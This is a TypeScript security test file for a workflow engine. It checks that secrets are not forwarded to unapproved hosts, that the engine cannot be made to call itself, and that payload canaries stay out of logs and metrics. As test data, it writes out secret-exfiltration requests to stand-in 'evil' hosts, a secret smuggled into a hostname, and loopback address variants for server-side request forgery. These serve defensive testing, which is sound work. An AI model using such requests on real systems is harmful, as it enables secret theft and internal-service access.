/**
 * What a definition, a payload or a downstream tries, to bring a secret elsewhere, the engine to call itself, or what a payload holds
 * into logs, traces and metrics.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ScriptedDownstream } from '../e2e/stage/downstream.ts';
import { OtlpReceiver } from '../otlp-receiver.ts';
import { Arena } from './arena.ts';

const key = 'bank-key-"4711"+/ä';
const bank = new ScriptedDownstream(() => ({ body: echoes }));
const evil = new ScriptedDownstream();
const receiver = new OtlpReceiver();
/** What the bank says to every call. */
const echoes = {
  plain: key,
  json: JSON.stringify({ got: key }),
  percent: encodeURIComponent(key),
  base64: Buffer.from(key).toString('base64'),
  basic: Buffer.from(`user:${key}`).toString('base64'),
};

let arena: Arena;
beforeAll(async () => {
  await Promise.all([bank.open(), evil.open(), receiver.open()]);
  arena = new Arena({
    TRAMA_SECRET_BANK: key,
    TRAMA_SECRET_FREE: 'free-key-4711',
    ...Object.fromEntries(
      Array.from({ length: 40 }, (_, i) => [`TRAMA_SECRET_K${String(i)}`, `sk-live-"a/b\\${String(i)}-x-x-x`]),
    ),
    SECRETS_HOSTS: JSON.stringify({
      BANK: [new URL(bank.url).host],
      ...Object.fromEntries(Array.from({ length: 40 }, (_, i) => [`K${String(i)}`, []])),
    }),
    HTTP_EGRESS_ALLOWPRIVATEFROMDATA: '127.0.0.0/8',
    CIRCUITBREAKER_FAILURETHRESHOLD: '2',
    CIRCUITBREAKER_OPENMILLIS: '100',
    HOOKS_MAXMILLIS: '100',
    TELEMETRY_ENABLED: 'true',
    TELEMETRY_OTLPENDPOINT: receiver.url,
    LOGGING_LEVEL: 'debug',
  });
  await arena.open();
});
afterAll(async () => {
  await arena.close();
  await Promise.all([bank.close(), evil.close(), receiver.close()]);
});

interface Run {
  readonly id: string;
  readonly status: string;
  readonly reason?: string;
  readonly failureDescription?: string;
}

async function run(definition: object, payload: object = {}): Promise<Run> {
  const path = '/workflows/run?waitMillis=20000';
  const { status, body } = await arena.send('POST', path, { definition, payload });
  if (status !== 200) throw new Error(JSON.stringify(body));
  return body as Run;
}

let names = 0;
const saga = (steps: readonly object[], more: object = {}): object => ({
  name: `hostile-${String(++names)}`,
  version: '1',
  failureHandling: { type: 'retry', maxAttempts: 0, delayMillis: 1 },
  steps: steps.map((up, i) => ({ name: `s${String(i)}`, up: { verb: 'POST', ...up } })),
  ...more,
});

const toBank = (path: string, more: object = {}): object => ({
  url: `${bank.url}/${path}`,
  headers: { 'X-Key': '{{secrets.BANK}}' },
  ...more,
});

describe('a secret that a downstream echoes', () => {
  const echo = (name: string): string => `{{step.s0.body.${name}}}`;
  const ways: readonly (readonly [string, object])[] = [
    ...Object.keys(echoes).map((name) => [`the body, ${name}`, { body: { a: `x ${echo(name)} y` } }] as const),
    [
      'a body that is text',
      { body: `a=${echo('plain')}`, headers: { 'Content-Type': 'application/x-www-form-urlencoded' } },
    ],
    ['a header', { headers: { 'X-Note': echo('base64') } }],
    ['the path', { url: 'EVIL/{{step.s0.body.plain}}' }],
    ['the query', { url: 'EVIL/x?q={{step.s0.body.json}}' }],
    ['the whole answer', { body: '{{step.s0.body}}' }],
    ['all steps', { body: { all: '{{steps}}' } }],
  ];

  it.each(ways)('is not carried to another host in %s', async (_way, request) => {
    const { url = 'EVIL/take' } = request as { url?: string };
    const ended = await run(saga([toBank('ask'), { ...request, url: url.replace('EVIL', evil.url) }]));
    expect(ended).toMatchObject({ status: 'FAILED', reason: 'unsent' });
    expect(ended.failureDescription).toBe(
      `The request holds the secret BANK, which may not go to ${new URL(evil.url).host}: secrets.hosts does not name it.`,
    );
    expect(evil.received).toEqual([]);
  });

  it('goes where the secret may go', async () => {
    const before = bank.received.length;
    const ended = await run(saga([toBank('ask'), { url: `${bank.url}/again`, body: echo('plain') }]));
    expect(ended.status).toBe('SUCCEEDED');
    expect(bank.received.slice(before).map(({ path, body }) => [path, body])).toEqual([
      ['/ask', ''],
      ['/again', key],
    ]);
  });

  it('comes neither by a compensation nor by a hook', async () => {
    const take = { url: `${evil.url}/take`, verb: 'POST', body: echo('plain') };
    const definition = {
      ...saga([toBank('ask'), { url: `${bank.url}/no`, successStatusCodes: [299] }], { onFailureCallback: take }),
    } as { steps: { down?: object }[] };
    definition.steps[0]!.down = take;
    const ended = await run(definition);
    expect(ended).toMatchObject({ status: 'CORRUPTED' });
    expect(evil.received).toEqual([]);
  });
});

describe('a host that comes from data', () => {
  const url = '{{payload.to}}/take';
  it('gets no secret that is not named for it', async () => {
    for (const [request, name] of [
      [{ url, body: '{{secrets.FREE}}' }, 'FREE'],
      [{ url, auth: { type: 'bearer', secret: 'FREE' } }, 'FREE'],
      [{ url, body: '{{secrets.BANK}}' }, 'BANK'],
      [{ url: 'http://{{{payload.host}}}/take', headers: { 'X-Key': '{{secrets.FREE}}' } }, 'FREE'],
    ] as const) {
      const ended = await run(saga([request]), { to: evil.url, host: new URL(evil.url).host });
      expect(ended).toMatchObject({ status: 'FAILED', reason: 'unsent' });
      expect(ended.failureDescription).toContain(`The secret ${name} may not go to`);
    }
    expect(evil.received).toEqual([]);
  });

  it('gets one that is, and validation warns', async () => {
    const definition = saga([{ url, body: '{{secrets.BANK}}' }]);
    expect(await run(definition, { to: bank.url })).toMatchObject({ status: 'SUCCEEDED' });
    const { body } = await arena.send('POST', '/workflows/definitions/validate', definition);
    expect(JSON.stringify(body)).toContain('steps[0].up.url: The host comes from data');
  });

  it('cannot be made of a secret', async () => {
    const definition = saga([{ url: 'http://{{secrets.FREE}}.evil.example/' }]);
    const { status, body } = await arena.send('POST', '/workflows/run', { definition });
    expect(status).toBe(400);
    expect(JSON.stringify(body)).toContain('where no secret may');
    const hidden = saga([{ url: 'http://{{#secrets.FREE}}{{.}}{{/secrets.FREE}}.evil.example/' }]);
    expect(await run(hidden)).toMatchObject({ status: 'FAILED', reason: 'unsent' });
  });
});

describe('the engine itself', () => {
  it('is no target of a definition', async () => {
    const { port } = new URL(arena.url);
    for (const host of ['127.0.0.1', 'localhost', '0x7f000001', '[::ffff:127.0.0.1]', '0.0.0.0']) {
      for (const path of ['workflows', 'metrics', 'healthz', 'audit']) {
        const to = `http://${host}:${port}`;
        const ended = await run(
          saga([{ url: path === 'audit' ? '{{payload.to}}/audit' : `${to}/${path}`, verb: 'GET' }]),
          { to },
        );
        expect(ended).toMatchObject({ status: 'FAILED', reason: 'unsent' });
      }
    }
    const ended = await run(saga([{ url: `${arena.url}/workflows`, verb: 'GET' }]));
    expect(ended.failureDescription).toContain('http.egress.allowOwn');
  });

  it('takes callbacks of definitions', async () => {
    const ask = {
      name: 'asks',
      version: '1',
      entrypoint: 'ask',
      nodes: [
        {
          kind: 'task',
          id: 'ask',
          action: {
            mode: 'async',
            request: { url: `${evil.url}/ask`, verb: 'POST', body: '{{runtime.callback.signedUrl}}' },
            callback: { timeoutMillis: 60_000 },
          },
        },
      ],
    };
    const started = await arena.send('POST', '/workflows/run', { definition: ask });
    const { id } = started.body as Run;
    const { body: to } = await evil.arrival('/ask');
    expect(await run(saga([{ url: '{{payload.to}}', body: { ok: true } }]), { to })).toMatchObject({
      status: 'SUCCEEDED',
    });
    await expect
      .poll(async () => (await arena.send('GET', `/workflows/${id}`)).body, { timeout: 10_000 })
      .toMatchObject({ status: 'SUCCEEDED' });
    evil.received.length = 0;
  });
});

it('searches large requests for many secrets without standing still', async () => {
  const parts = ['s', 'sk-live-', '\\', '%5c', '%25', '&amp;', 'x-', 'sk-live-"a/b\\1', 'c2st'];
  await arena.survives(async () => {
    for (const size of [30_000, 120_000, 480_000]) {
      for (const part of parts) {
        const text = part.repeat(size / part.length / 2);
        expect(await run(saga([{ url: `${evil.url}/large`, body: '{{payload.text}}' }]), { text })).toMatchObject({
          status: 'SUCCEEDED',
        });
      }
    }
  });
}, 60_000);

it('keeps what payloads hold out of log, traces and metrics', async () => {
  const canary = 'canary4711';
  const payload = {
    url: `http://${canary}.invalid`,
    host: `${canary}.invalid`,
    address: 'http://127.47.11.99:9',
    text: canary,
    dots: `${canary}/../x`,
    to: evil.url,
    login: `http://${canary}:x@evil.example/`,
  };
  const steps = [
    { url: '{{payload.url}}/a' },
    { url: 'http://{{payload.host}}/a?x={{payload.text}}' },
    { url: '{{payload.address}}/{{payload.text}}' },
    { url: `${evil.url}/{{{payload.dots}}}` },
    { url: '{{{payload.login}}}' },
    { url: `${evil.url}/{{payload.text}}?q={{payload.text}}`, successStatusCodes: [299], body: '{{payload}}' },
    { url: '{{payload.to}}/{{payload.text}}', headers: { 'X-Note': '{{payload.text}}' }, successStatusCodes: [299] },
    { url: `${arena.url}/{{payload.text}}` },
    { url: '{{payload.url}}', body: '{{secrets.FREE}}' },
  ];
  for (const step of steps) {
    // The retry makes two failures of it, so that circuits open.
    const definition = saga([step], {
      ...(step === steps[0] ? { onFailureCallback: { url: '{{payload.url}}/hook', verb: 'POST' } } : {}),
      failureHandling: { type: 'retry', maxAttempts: 1, delayMillis: 1 },
    });
    expect(await run(definition, payload)).toMatchObject({ status: 'FAILED' });
  }
  const sleeping = {
    name: 'sleeps',
    version: '1',
    entrypoint: 'a',
    nodes: [{ kind: 'sleep', id: 'a', until: '{{payload.text}}' }],
  };
  const slept = await run(sleeping, payload);
  // The execution says it to those who may read it.
  expect(slept.failureDescription).toContain(canary);

  await receiver.until(() => receiver.spans.some(({ attributes }) => attributes['saga.id'] === slept.id) || undefined);
  const templates = new Set(receiver.spans.map(({ attributes }) => attributes['url.template']));
  expect(templates).toContain('{{payload.url}}/a');
  expect(templates).toContain('http://{{payload.host}}/a');
  const spans = JSON.stringify(receiver.spans, (_key, value: unknown) =>
    typeof value === 'bigint' ? String(value) : value,
  );
  const metrics = String((await arena.send('GET', '/metrics')).body);
  expect(metrics).toMatch(/saga_http_call_seconds_count\{host="\(data\)",outcome="unsent"\} [1-9]/);
  expect(metrics).toContain('saga_circuit_open{host="(data)"}');
  const cluster = JSON.stringify((await arena.send('GET', '/cluster')).body);
  arena.process.child.kill('SIGTERM');
  const { out, notes } = await arena.process.ended;
  expect(out).toContain('saga finished');
  expect(out).toContain('{{payload.url}}/a');
  for (const text of [spans, metrics, cluster, out, notes]) {
    expect(text).not.toContain(canary);
    expect(text).not.toContain('127.47.11.99');
    expect(text).not.toContain('free-key');
    expect(text).not.toContain('bank-key');
  }
});
